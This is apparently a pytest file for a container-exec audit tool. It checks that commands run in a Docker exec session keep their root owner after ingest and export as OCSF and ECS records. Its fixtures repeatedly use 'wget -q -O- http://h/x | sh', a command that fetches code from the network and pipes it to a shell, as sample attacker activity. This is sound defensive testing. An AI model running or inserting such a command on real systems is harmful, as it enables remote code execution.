"""Offline ingest of exec sessions: the owner comes from the Engine's exec event even when
the audit log runs far ahead of the Engine events (a quiet minute after the exec)."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from click.testing import CliRunner

from listener.cli import main
from sinks.base import EventFilter
from sinks.sqlite import SQLiteTrail
from tests import ocsf_schema
from tests.exec_audit_log import AuditLog
from tests.test_export import _ecs_problems

CONTAINER = "c0ffee" + "0" * 58
EXEC_ID = "e" * 64
SHIM = 300


def docker_cli(log: AuditLog, at: float, pid: int, argv: list[str]) -> None:
    """The docker CLI's execve by login uid 0 (root has a name on every machine)."""
    stamp = log._stamp(at)
    args = " ".join(f'a{i}="{a}"' for i, a in enumerate(argv))
    log.lines += [
        f"type=SYSCALL msg={stamp}: arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 "
        f"a2=3 a3=4 items=2 ppid=10 pid={pid} auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 "
        f'egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm="docker" exe="/usr/bin/docker" '
        f'key="docker-cli"',
        f"type=EXECVE msg={stamp}: argc={len(argv)} {args}",
        f'type=CWD msg={stamp}: cwd="/root"',
        f"type=EOE msg={stamp}: ",
    ]
    log.serial += 1


def engine_exec(action: str, at_s: float) -> dict[str, Any]:
    nano = round(at_s * 1e9)
    return {
        "Type": "container",
        "Action": f"{action}: sh -c wget -q -O- http://h/x | sh",
        "Actor": {"ID": CONTAINER, "Attributes": {"name": "web", "execID": EXEC_ID}},
        "scope": "local",
        "time": nano // 10**9,
        "timeNano": nano,
    }


def ingested(tmp_path: Path) -> Path:
    """A trail of one exec session whose audit log runs a minute ahead of the Engine."""
    log = AuditLog()
    docker_cli(log, 0.00, 90, ["docker", "exec", "web", "sh", "-c", "wget -q -O- http://h/x | sh"])
    log.runc_exec(0.20, 400, SHIM, EXEC_ID, CONTAINER)
    log.execve(0.21, 403, 400, ["sh", "-c", "wget -q -O- http://h/x | sh"])
    log.execve(0.22, 404, 403, ["wget", "-q", "-O-", "http://h/x"])
    log.exit(0.23, 404, 403, code=1)
    log.exit(0.24, 403, 400)
    log.execve(45.0, 500, 1, ["/usr/sbin/logrotate"], exe="/usr/sbin/logrotate")  # much later
    audit = log.write(tmp_path / "audit.log")
    events = tmp_path / "events.jsonl"
    start = log.start
    raw = [engine_exec("exec_create", start + 0.10), engine_exec("exec_start", start + 0.15),
           engine_exec("exec_die", start + 0.30)]  # fmt: skip
    events.write_text("".join(json.dumps(e) + "\n" for e in raw))

    result = CliRunner().invoke(
        main,
        ["--db", str(tmp_path / "t.db"), "ingest", "--host", "h",
         "--docker-events", str(events), "--audit-log", str(audit)],
        catch_exceptions=False,
    )  # fmt: skip

    assert result.exit_code == 0, result.output
    return tmp_path / "t.db"


def test_commands_keep_their_owner_when_the_audit_log_runs_ahead(tmp_path: Path) -> None:
    with SQLiteTrail(ingested(tmp_path)) as trail:
        stored = list(trail.query(EventFilter()))
    (start_event,) = [e for e in stored if e.action == "exec_start"]
    commands = [e for e in stored if e.action == "exec-command"]
    assert start_event.who.login == "root"
    assert sorted(" ".join(e.attributes["argv"]) for e in commands) == [
        "sh -c wget -q -O- http://h/x | sh", "wget -q -O- http://h/x"
    ]  # fmt: skip
    assert {(e.attributes["session"], e.who.login) for e in commands} == {(EXEC_ID, "root")}


def _exported(db: Path, fmt: str) -> list[dict[str, Any]]:
    result = CliRunner().invoke(main, ["--db", str(db), "export", "--format", fmt])
    assert result.exit_code == 0, result.output
    return [json.loads(line) for line in result.stdout.splitlines()]


def test_session_commands_export_as_processes_in_the_container(tmp_path: Path) -> None:
    db = ingested(tmp_path)
    ocsf = [r for r in _exported(db, "ocsf") if r["message"] == "container exec-command"]
    assert len(ocsf) == 2
    for record in ocsf:
        assert ocsf_schema.problems(record) == [], record
        assert (record["class_uid"], record["activity_name"]) == (1007, "Launch")
        assert record["actor"]["user"]["name"] == "root"  # the exec's owner
    wget = next(r for r in ocsf if r["process"]["pid"] == 404)
    assert wget["process"]["cmd_line"] == "wget -q -O- http://h/x"
    assert wget["process"]["parent_process"] == {"pid": 403}
    assert wget["process"]["uid"].startswith(EXEC_ID + ":")
    ecs = [d for d in _exported(db, "ecs") if d["event"]["action"] == "container-exec-command"]
    assert len(ecs) == 2
    for document in ecs:
        assert _ecs_problems(document) == [], document
        assert document["event"]["category"] == ["process"]
        assert document["event"]["type"] == ["start"]
    shell = next(d for d in ecs if d["process"]["pid"] == 403)
    assert shell["process"]["args"] == ["sh", "-c", "wget -q -O- http://h/x | sh"]
    assert shell["process"]["command_line"] == "sh -c 'wget -q -O- http://h/x | sh'"
    assert shell["process"]["parent"] == {"pid": 400}
    assert shell["user"]["name"] == "root"
